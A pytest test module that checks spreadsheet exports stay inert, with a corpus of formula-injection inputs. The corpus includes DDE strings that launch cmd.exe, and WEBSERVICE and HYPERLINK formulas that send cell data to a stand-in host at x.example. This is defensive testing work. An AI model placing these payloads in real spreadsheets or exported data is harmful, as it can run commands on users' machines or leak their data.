"""Texts that a spreadsheet would run, and how to see that it does not."""

import re
from io import BytesIO
from zipfile import ZipFile

import pytest

CORPUS = [
    "=1+1",
    "==1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    ";=1+1",
    '"=1+1"',
    "'=1+1",
    "{=1+1}",
    "%0A=1+1",
    "|calc",
    '=HYPERLINK("http://x.example?"&A1;"Click")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=MSEXCEL|'\\..\\cmd.exe'!x",
    "http://x.example/",
    "mailto:x@x.example",
    "internal:Figures!A1",
    "external:c:\\x.xlsx",
    "ftp://x.example",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "&lt;f&gt;1+1",
    "_x003D_1+1",
    "\x01=1+1",
    "=1+1🎉",
]
TEXTS = [pytest.param(text, id=f"{number:02}") for number, text in enumerate(CORPUS)]


def parts_of(content):
    with ZipFile(BytesIO(content)) as packed:
        return {
            name: packed.read(name).decode()
            for name in packed.namelist()
            if name.endswith((".xml", ".rels"))
        }


def assert_dead(content):
    """No formula, no link, nothing that is fetched: every text lies in the shared texts or is a number."""
    parts = parts_of(content)
    sheets = "".join(part for name, part in parts.items() if "/worksheets/sheet" in name)
    assert not re.search(r"<f[ >/]|<hyperlink|t=\"str\"", sheets)
    assert "TargetMode" not in "".join(parts.values())
    assert not [
        name
        for name in parts
        if re.search("external|connections|queryTable|vba", name, re.IGNORECASE)
    ]


def bare(cell):
    """A spreadsheet keeps a line break one way only, and none of the control letters."""
    return re.sub(r"[\s\x00-\x1f]+|_x000[0-9A-F]_", "", str(cell))
